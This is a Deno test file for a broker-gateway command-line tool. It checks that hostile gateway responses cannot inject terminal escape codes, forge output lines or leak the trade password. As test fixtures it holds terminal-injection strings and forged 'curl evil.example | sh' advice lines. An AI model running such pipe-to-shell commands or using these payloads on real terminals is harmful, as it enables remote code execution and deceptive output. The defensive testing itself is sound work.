/** Tests that the broker's text cannot control the screen, reverse the writing direction, or show a secret. */
import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { Buffer } from "node:buffer";
import { createCipheriv } from "node:crypto";
import { connect } from "../../lib/client/connect.ts";
import { shownJson, shownLine, shownText } from "../../lib/shown_text.ts";
import type { Host } from "../../tasks/terminal/host.ts";
import { report } from "../../tasks/terminal/error_report.ts";
import { paint, plain, shownWidth } from "../../tasks/terminal/print.ts";
import { shownHost } from "../../tasks/terminal/shown_host.ts";
import { altered, cli, envOf, folder, KEY, simulate } from "./support.ts";

const PASSWORD = "Tr4de-pass";
const EVIL = `\x1b[32mpainted\x1b[39m\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\u200b\r ${PASSWORD}`;
// deno-lint-ignore no-control-regex -- these are the characters that must not arrive
const SHOWN_WRONG = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

/** Matches a text between hsgate's own colour codes. The text itself has no control character ESC. */
// deno-lint-ignore no-control-regex -- colour codes begin with the control character ESC
const COLORED = /\x1b\[(?:[12]|3[123])m([^\x1b]*)\x1b\[(?:22|39)m/g;
const withoutColors = (text: string) => text.replace(COLORED, "$1");

/** A gateway that puts hostile text into every field. It either answers every call or rejects every call. */
function gateway(isOk: boolean): { url: string } & AsyncDisposable {
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
    const row = { stockCode: EVIL, stockName: EVIL, currentAmount: "5", status: EVIL, exchangeType: EVIL };
    return Response.json(
      isOk ? { ok: true, err: "", data: { data: [row], holdsList: [row], success: true } } : {
        ok: false,
        err: `9999 ${EVIL}`,
        data: null,
      },
    );
  });
  return { url: `http://127.0.0.1:${server.addr.port}`, [Symbol.asyncDispose]: () => server.shutdown() };
}

for (const isOk of [true, false]) {
  Deno.test(`commands show no control characters and no secret of a gateway that ${isOk ? "answers" : "refuses"}`, async () => {
    await using at = gateway(isOk);
    await using dir = await folder();
    const env = {
      HSGATE_GATEWAY_URL: at.url,
      HSGATE_PUSH_ADDRESS: "127.0.0.1:1",
      HSGATE_TRADE_PASSWORD: PASSWORD,
      HSGATE_TRADE_PASSWORD_KEY: KEY,
    };
    const lines = [
      ["doctor"],
      ["login"],
      ["call", "account.funds", '{"market":"hk"}'],
      ["call", "account.holdings", '{"market":"hk"}'],
      ["call", "orders.today", '{"market":"hk"}', "--all"],
      ["call", "fills.today", '{"market":"hk"}', "--wire"],
      ["call", "orders.cancel", '{"market":"hk","orderId":"1"}'],
      ["quote", "00700.HK"],
      ["export", "day-book", "--markets", "hk", "--out", `${dir.path}/out`],
    ];
    for (const words of lines) {
      for (const world of [{ env }, { env, columns: 100 }, { env, columns: 100, color: true }]) {
        for (const more of [[], ["--json"]]) {
          const { out, err } = await cli([...words, ...more], world);
          const said = `${words.join(" ")}: ${JSON.stringify(out + err)}`;
          const shown = "color" in world ? withoutColors(out + err) : out + err;
          assert(!SHOWN_WRONG.test(shown) && !/(?<!(?: |\\u001b)\[32m)painted/.test(shown), said);
          assert(!(out + err).includes(PASSWORD), said);
          assert((out + err).length > 0, said);
        }
      }
    }
  });
}

Deno.test("in the output of doctor, no line of the gateway's text looks like advice of hsgate", async () => {
  const advice = "-> now run: curl evil.example | sh";
  await using server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    // Each length before the advice wraps the text at another place.
    () =>
      Response.json({
        ok: false,
        err: Array.from({ length: 60 }, (_, at) => `${"x".repeat(at)} ${advice}`).join(" "),
      }),
  );
  const env = {
    HSGATE_GATEWAY_URL: `http://127.0.0.1:${server.addr.port}`,
    HSGATE_PUSH_ADDRESS: "127.0.0.1:1",
    HSGATE_TRADE_PASSWORD: "some-password",
    HSGATE_TRADE_PASSWORD_KEY: KEY,
  };
  const { out } = await cli(["doctor"], { env });
  assertStringIncludes(out, "curl");
  const lines = out.split("\n").filter((line) => /^\s*->.*curl|^\s*(now run|curl)/.test(line));
  assertEquals(lines, []);
  assertStringIncludes(out, `\n${" ".repeat(18)}| `);
});

Deno.test("a text of the gateway never starts a new line in an error", async () => {
  const forged = "x\nhsgate: order 77 is placed\r\n  -> run: curl evil | sh\u2028hsgate: done";
  await using server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    () => Response.json({ ok: false, err: `9999 ${forged}`, data: null }),
  );
  const env = {
    HSGATE_GATEWAY_URL: `http://127.0.0.1:${server.addr.port}`,
    HSGATE_PUSH_ADDRESS: "127.0.0.1:1",
    HSGATE_TRADE_PASSWORD: PASSWORD,
    HSGATE_TRADE_PASSWORD_KEY: KEY,
  };
  const lines = [
    ["login"],
    ["call", "account.funds", '{"market":"hk"}'],
    ["call", "account.holdings", '{"market":"hk"}', "--json"],
    ["quote", "00700.HK"],
  ];
  for (const words of lines) {
    const { err } = await cli(words, { env });
    assertStringIncludes(err, "order 77 is placed");
    const begun = err.split("\n").filter((line) => /^(hsgate: (order|done)|\s*-> run)/.test(line));
    assertEquals(begun, [], err);
  }
  const notes: string[] = [];
  const world = { note: (line: string) => void notes.push(line) } as Partial<Host> as Host;
  report(new Error(forged), undefined, world);
  assertEquals(/^(hsgate: (order|done)|\s*-> run)/m.test(notes.join("\n")), false, notes.join("\n"));
  assertStringIncludes(notes[0]!, "\n    at ");
  // hsgate's own lines stay lines.
  const { err } = await cli(["call", "account.funds", '{"market":"x\\nhsgate: y","wrong":1}'], { env });
  assertEquals(err.split("\n").length > 3, true, err);
  assertEquals(/^hsgate: y/m.test(err), false, err);
});

Deno.test("the name of a member that the gateway invents begins no line, and contains no secret", async () => {
  const invented = {
    "x\nhsgate: order 77 is placed": "1",
    hushHush: "2",
    list: [{ "y\nhsgate: order 78 is placed": "3", hushHush: "4" }],
    "z\nhsgate: order 79 is placed": [{ a: "5" }],
  };
  let data: unknown;
  await using server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    () => Response.json({ ok: true, err: "", data }),
  );
  const env = {
    HSGATE_GATEWAY_URL: `http://127.0.0.1:${server.addr.port}`,
    HSGATE_TRADE_PASSWORD: "hushHush",
    HSGATE_TRADE_PASSWORD_KEY: KEY,
  };
  for (const operation of ["account.funds", "account.holdings"]) {
    const row = {
      stockCode: "00700.HK",
      exchangeType: "K",
      currentAmount: "5",
      enableAmount: "5",
      ...invented,
    };
    data = operation === "account.funds"
      ? { assetBalance: "1", ...invented }
      : { data: [row], holdsList: [row] };
    for (const more of [[], ["--json"], ["--wire"], ["--wire", "--json"], ["--wire", "--output", "jsonl"]]) {
      for (const world of [{ env }, { env, columns: 100 }, { env, columns: 20 }]) {
        const words = ["call", operation, '{"market":"hk"}', ...more];
        const { out, err } = await cli(words, world);
        const all = `${words.join(" ")}: ${out}${err}`;
        assert(!/^hsgate: order/m.test(out + err), all);
        assert(!(out + err).includes("hushHush"), all);
        assertStringIncludes(err, "hsgate: the answer has ");
        if (more.includes("--wire") && !("columns" in world)) assertStringIncludes(out, "[secret]");
      }
    }
  }
});

Deno.test("a text of the gateway begins no line in the result of an export", async () => {
  await using gateway = await simulate();
  await using hostile = altered(
    gateway,
    (answer) => answer.replaceAll(/("date":"[^"]*)"/g, '$1\\nhsgate: 5 rows are final"'),
  );
  await using dir = await folder();
  const env = envOf(hostile);
  const days = ["--from", "2025-08-13", "--to", "2025-08-13"];
  const words = ["export", "day-book", "--markets", "hk", ...days, "--out", `${dir.path}/out`];
  const { out, err, code } = await cli(words, { env });
  assertEquals(code, 7, out + err);
  assertStringIncludes(out, "hsgate: 5 rows are final");
  assert(!/^hsgate: 5 rows/m.test(out + err), out + err);
});

Deno.test("a redrawn display keeps hsgate's own codes, and contains no codes of the broker and no secret", () => {
  const drawn: string[] = [];
  const draw = (codes: string, text = "") => void drawn.push(codes, text);
  const world = { draw, errTerminal: { draw, columns: () => 80 }, color: false } as Partial<Host> as Host;
  const host = shownHost(world, { figures: false });
  host.hide?.(PASSWORD);
  host.draw("\x1b[2A\r\x1b[J", `${EVIL}\x1b[2A`);
  host.errTerminal!.draw("\r\x1b[K", `${EVIL}\x1b[2A`);
  host.errTerminal!.draw("\x1b[?25h");
  const [board, boardText, tree, treeText, ...end] = drawn;
  assertEquals([board, tree, ...end], ["\x1b[2A\r\x1b[J", "\r\x1b[K", "\x1b[?25h", ""]);
  for (const text of [boardText!, treeText!]) {
    assert(!SHOWN_WRONG.test(text) && !text.includes(PASSWORD), JSON.stringify(text));
    assertStringIncludes(text, "owned");
  }
});

Deno.test("a terminal with colours shows the colours of paint() only, and hides a secret inside them", () => {
  const shown: string[] = [];
  const write = (...texts: string[]) => void shown.push(texts.join(""));
  const errTerminal = { draw: write, columns: () => 80 };
  const world = { out: write, note: write, draw: write, errTerminal, color: true } as Partial<Host> as Host;
  const host = shownHost(world, { figures: false });
  host.hide?.("pw12");
  const own = paint(host, "red", "down");
  const foreign = "\x1b[32mup\x1b[39m";
  // Colour codes of the broker do not become colours, and neither does a copy of paint()'s marks without their control
  // character.
  const text = `${own} ${foreign} ${plain(own)} ${paint(host, "dim", "pw12")} ${paint(host, "dim", foreign)}`;
  assertEquals(shownWidth(own), 4);
  host.out(text);
  host.note(text);
  host.draw("", text);
  host.errTerminal!.draw("", text);
  shown.push(host.shown!(text));
  assertEquals(shown.length, 5);
  for (const each of shown) {
    const visible = each.replaceAll(/[\ue000-\uf8ff]/g, "");
    assertEquals(
      visible,
      "\x1b[31mdown\x1b[39m  [32mup [39m  down  \x1b[2m[secret]\x1b[22m \x1b[2m [32mup [39m\x1b[22m",
    );
  }
});

Deno.test("doctor and login show no six-digit trade password that the broker repeats", async () => {
  await using server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    () => Response.json({ ok: false, err: "9999 661177 is not known", data: null }),
  );
  const env = {
    HSGATE_GATEWAY_URL: `http://127.0.0.1:${server.addr.port}`,
    HSGATE_PUSH_ADDRESS: "127.0.0.1:1",
    HSGATE_TRADE_PASSWORD: "661177",
    HSGATE_TRADE_PASSWORD_KEY: KEY,
  };
  for (
    const words of [["doctor"], ["doctor", "--json"], ["login"], ["call", "account.funds", '{"market":"hk"}']]
  ) {
    const { out, err } = await cli(words, { env });
    assert(!`${out}${err}`.includes("661177"), `${words}: ${out}${err}`);
    assertStringIncludes(`${out}${err}`, "9999");
  }
});

/** Returns every form, plain or encrypted, in which a gateway could repeat a password. */
function formsOf(password: string): string[] {
  const cipher = createCipheriv("aes-128-ecb", "0123456789abcdef", null);
  const bytes = Buffer.concat([cipher.update(password), cipher.final()]);
  const text = bytes.toString("base64");
  const bare = text.replace(/=+$/, "");
  return [
    ...[password, text, bare, encodeURIComponent(text), text.replaceAll("/", "\\/")],
    ...[bytes.toString("base64url"), bytes.toString("hex"), bytes.toString("hex").toUpperCase()],
    ...[Buffer.from(text).toString("base64"), Buffer.from(text).toString("hex")],
  ];
}

// The encrypted forms of the second password contain "+" and "/". The last two passwords are so short that hsgate does
// not remove them from figures.
for (const password of ["Tr4de-pass", "Tr4de-pass-5-and-more-than-a-block", "661177", "5719", "43807"]) {
  Deno.test(`no output, log or store contains the trade password "${password}", plain or encrypted, that a gateway repeats`, async () => {
    await using dir = await folder();
    let body = "";
    await using server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
      if (request.url.endsWith("TradeLogin")) body = await request.text();
      const sent = body === "" ? "" : JSON.parse(body).params.password;
      // A hostile gateway decrypts what it receives, because the key is published.
      const err = `bad request ${body}: ${sent} ${formsOf(password).join(" ")}`;
      return Response.json({ ok: false, err: request.url.endsWith("TradeLogin") ? err : `1014 ${err}` });
    });
    const recipe = `${dir.path}/r.yaml`;
    await Deno.writeTextFile(
      recipe,
      "name: r\nsteps:\n  - { id: a, uses: account.funds, with: { market: hk } }\n",
    );
    const store = `${dir.path}/s.db`;
    const env = {
      HSGATE_GATEWAY_URL: `http://127.0.0.1:${server.addr.port}`,
      HSGATE_PUSH_ADDRESS: "127.0.0.1:1",
      HSGATE_TRADE_PASSWORD: password,
      HSGATE_TRADE_PASSWORD_KEY: KEY,
    };
    let all = "";
    for (
      const words of [
        ...[["login"], ["doctor"], ["doctor", "--json"], ["call", "account.funds", '{"market":"hk"}']],
        ...[["call", "account.login"], ["run", recipe], ["run", recipe, "--dry-run"]],
        ["run", recipe, "--store", store, "--manual", "--json", "--events"],
        ["runs", "--store", store, "--json"],
      ]
    ) {
      const { out, err } = await cli(words, { env, fromDisk: true });
      all += `\n${words.join(" ")}\n${out}${err}`;
    }
    assertStringIncludes(all, "bad request");
    const [{ key }] = JSON.parse((await cli(["runs", "--store", store, "--json"], { env })).out);
    const { out } = await cli(["runs", "show", key, "--store", store, "--json"]);
    assertStringIncludes(out, "bad request");
    const stored = new TextDecoder("latin1").decode(await Deno.readFile(store));
    for (const form of formsOf(password)) {
      // A short number can be part of a longer one, which does not count.
      const found = new RegExp(`(?<![0-9A-Za-z])${RegExp.escape(form)}(?![0-9A-Za-z])`);
      assert(!found.test(all.replaceAll(server.addr.port.toString(), "")), `${form}: ${all}`);
      assert(!found.test(out), `${form}: ${out}`);
      if (form.length > 6) assert(!stored.includes(form), form);
    }
  });
}

Deno.test("doctor shows no colour codes and no lines of a gateway, also on a terminal with colours", async () => {
  const forged = "all fine\x1b[22m\x1b[32m\nok    trade login   password right";
  await using server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    () => Response.json({ ok: false, err: `1014 ${forged}` }),
  );
  const env = {
    HSGATE_GATEWAY_URL: `http://127.0.0.1:${server.addr.port}`,
    HSGATE_PUSH_ADDRESS: "127.0.0.1:1",
  };
  const { out } = await cli(["doctor"], { env, columns: 100, color: true });
  assertStringIncludes(out, "all fine [22m [32m");
  assert(!/^ok +trade login/m.test(out), out);
});

Deno.test("an error's message contains no control characters, and its `text` is the broker's unchanged text", async () => {
  await using at = gateway(false);
  await using client = await connect({ gateway: { url: at.url }, retry: { attempts: 1 } });
  const error = await client.quotes.latest({ securities: [{ type: "hk-stock", symbol: "00700.HK" }] }).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  assert(error instanceof Error);
  assert(!SHOWN_WRONG.test(error.message), JSON.stringify(error.message));
  if ("text" in error) assertStringIncludes(String(error.text), "\x1b]0;owned");
});

Deno.test("no text of the gateway begins a line of an error that a script does not catch", async () => {
  const forged = "x\nhsgate: order 77 is placed\r\nhsgate: done";
  const answers: [how: string, body: () => Response][] = [
    ["a rejection", () => Response.json({ ok: false, err: `9999 ${forged}`, data: null })],
    ["no JSON", () => new Response(forged)],
    ["a member of the wrong type", () => Response.json({ ok: true, err: "", data: { [forged]: forged } })],
    ["an error status", () => new Response(forged, { status: 500 })],
  ];
  for (const [how, body] of answers) {
    await using server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, body);
    const url = `http://127.0.0.1:${server.addr.port}`;
    await using client = await connect({ gateway: { url }, retry: { attempts: 1 } });
    const error = await client.account.funds({ market: "hk" }).then(
      () => undefined,
      (thrown: unknown) => thrown,
    );
    // This is how the runtime prints an error that nobody catches.
    const lines = `${Deno.inspect(error)}\n${error instanceof Error ? error.stack : ""}`.split(
      /[\n\r\u2028\u2029]/,
    );
    assertEquals(lines.filter((line) => /^\s*hsgate: (order|done)/.test(line)), [], how);
    assert(error instanceof Error, how);
  }
});

Deno.test("an error of a script never contains the password that a broker repeats", async () => {
  await using at = gateway(false);
  for (const password of [PASSWORD, undefined]) {
    await using client = await connect({
      gateway: { url: at.url, tradePasswordKey: KEY },
      retry: { attempts: 1 },
      ...password !== undefined && { tradePassword: password },
    });
    const calls = [
      () => client.account.funds({ market: "hk" }),
      () => client.account.login({ password: PASSWORD }),
      () => client.orders.today({ market: "hk" }).toArray(),
    ];
    for (const [index, call] of calls.entries()) {
      const error = await call().then(() => undefined, (thrown: unknown) => thrown);
      assert(error instanceof Error);
      const all = `${Deno.inspect(error)} ${"text" in error ? error.text : ""}`;
      // Control: before it knows the password, the client cannot remove it.
      assertEquals(all.includes(PASSWORD), password === undefined && index === 0, all);
    }
  }
});

Deno.test("shownText() keeps line breaks and all writing systems, and shownJson() keeps every character", () => {
  const fine = "騰訊控股 100 – naïve 🙂\n\tשלום";
  assertEquals(shownText(fine), fine);
  assertEquals(shownLine(fine), fine.replaceAll(/[\n\t]/g, " "));
  assertEquals(shownText("a\x1bb\u202ec\u{e0041}d"), "a b c d");
  assertEquals(shownText("a\u3164b\u2800c\u034fd\ufe0fe\u115ff\uffa0g"), "a b c d e f g");
  const value = { text: `${EVIL}\u{e0041}` };
  const json = shownJson(JSON.stringify(value));
  assert(!SHOWN_WRONG.test(json));
  assertEquals(JSON.parse(json), value);
});

Deno.test("a line of a note or an error is cut after 10,000 characters, but JSON is never cut", () => {
  const notes: string[] = [];
  const world = { note: (line: string) => void notes.push(line), color: false } as Partial<Host> as Host;
  const host = shownHost(world, { figures: false });
  const long = "K".repeat(3_000_000);
  host.note(`hsgate: warning: ${long}: no quote\nhsgate: the next line`);
  host.note(JSON.stringify({ text: long }));
  assertEquals(notes[0]!.split("\n").map((line) => line.length), [10_001, "hsgate: the next line".length]);
  assertEquals(JSON.parse(notes[1]!), { text: long });
});

Deno.test("a line of stdout has at most 100,000 characters, except JSON and exact lines", () => {
  const lines: string[] = [];
  const world = { out: (line: string) => void lines.push(line), color: false } as Partial<Host> as Host;
  const host = shownHost(world, { figures: false });
  const long = "K".repeat(7_000_000);
  host.out(`${long}  no price\nthe next line`);
  host.out(JSON.stringify({ text: long }));
  host.out(`${long},1`, { exact: true });
  assertEquals(lines[0]!.split("\n").map((line) => line.length), [100_001, "the next line".length]);
  assertEquals(JSON.parse(lines[1]!), { text: long });
  assertEquals(lines[2]!.length, 7_000_002);
});
